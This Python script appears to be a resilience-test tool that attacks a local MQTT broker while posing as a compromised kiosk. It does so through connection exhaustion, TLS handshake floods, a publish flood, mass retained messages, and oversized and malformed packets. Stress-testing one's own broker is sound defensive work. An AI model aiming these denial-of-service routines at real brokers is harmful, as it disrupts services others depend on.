"""Means harm to a broker from 127.0.0.66, until it is ended: `besieger HARM PORT FOLDER`."""

import socket
import ssl
import struct
import sys
import threading
from collections.abc import Callable
from contextlib import suppress
from itertools import cycle
from pathlib import Path

from sync.document import topics

ADDRESS = "127.0.0.66"
EVIL = "evil-1"
"""An enrolled kiosk that was taken over."""
CONNECTIONS = 1000
HANDSHAKES_A_SECOND = 400
TIMEOUT_S = 2


def dial(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), TIMEOUT_S, source_address=(ADDRESS, 0))


def as_kiosk(port: int, folder: Path) -> ssl.SSLSocket:
    """Its own connection, MQTT 3.1.1 without the limits of a good client."""
    context = ssl.create_default_context(cafile=folder / "ca.pem")
    context.load_cert_chain(folder / f"{EVIL}.pem", folder / f"{EVIL}.key")
    line = context.wrap_socket(dial(port), server_hostname="127.0.0.1")
    line.sendall(b"\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04evil")
    line.recv(4)
    return line


def published(topic: str, payload: bytes, *, retained: bool = False) -> bytes:
    """A PUBLISH of QoS 1."""
    content = struct.pack("!H", len(topic)) + topic.encode() + b"\x00\x07" + payload
    length, left = b"", len(content)
    while left or not length:
        left, low = divmod(left, 128)
        length += bytes([low | 128 if left else low])
    return bytes([0x32 | retained]) + length + content


def connections(port: int, _folder: Path) -> None:
    """A thousand that say nothing; those that are ended are opened again."""
    lines: list[socket.socket] = []
    pause = threading.Event()
    while True:
        if len(lines) >= CONNECTIONS:
            lines.pop(0).close()
        with suppress(OSError):
            lines.append(dial(port))
        pause.wait(1 / HANDSHAKES_A_SECOND)


def handshakes(port: int, _folder: Path) -> None:
    """Without a certificate: the broker has its part of the work by the time it sees that."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    pause = threading.Event()

    def shake() -> None:
        while True:
            with suppress(OSError):
                context.wrap_socket(dial(port)).close()
            pause.wait(threads / HANDSHAKES_A_SECOND)

    threads = 8
    for _ in range(threads):
        threading.Thread(target=shake, daemon=True).start()
    pause.wait()


def _sending(port: int, folder: Path, packets: list[bytes]) -> None:
    """All of them, again and again, as fast as the line takes them."""
    sent = cycle(packets)
    while True:
        with suppress(OSError):
            line = as_kiosk(port, folder)
            threading.Thread(target=_read_away, args=(line,), daemon=True).start()
            while True:
                line.sendall(next(sent))


def _read_away(line: ssl.SSLSocket) -> None:
    with suppress(OSError, ValueError):
        while line.recv(1 << 16):
            pass


def flood(port: int, folder: Path) -> None:
    """Small messages into its own month, faster than any collector stores."""
    _sending(port, folder, [published(topics.month(EVIL, "2026-10"), b"{}") * 100])


def retained(port: int, folder: Path) -> None:
    """Large ones that the broker is to keep, under all names that it may use."""
    names = [topics.month(EVIL, f"{year}-{month:02}") for year in range(2000, 2100) for month in range(1, 13)]
    _sending(port, folder, [published(name, bytes(64_000), retained=True) for name in names])


def oversized(port: int, folder: Path) -> None:
    """A packet whose head announces what MQTT allows at most."""
    _sending(port, folder, [b"\x32\xff\xff\xff\x7f" + bytes(1 << 20)])


def malformed(port: int, folder: Path) -> None:
    """What is no MQTT, in many ways."""
    good = published(topics.status(EVIL), b"{}")
    kinds = [bytes([kind]) + good[1:] for kind in range(256)]
    _sending(port, folder, [*kinds, good[:2] + b"\xff" * len(good), b"\x32\xff\xff\xff\xff\xff", b"\x82\x02\x00\x01"])


HARM: dict[str, Callable[[int, Path], None]] = {
    each.__name__: each for each in (connections, handshakes, flood, retained, oversized, malformed)
}

if __name__ == "__main__":
    HARM[sys.argv[1]](int(sys.argv[2]), Path(sys.argv[3]))
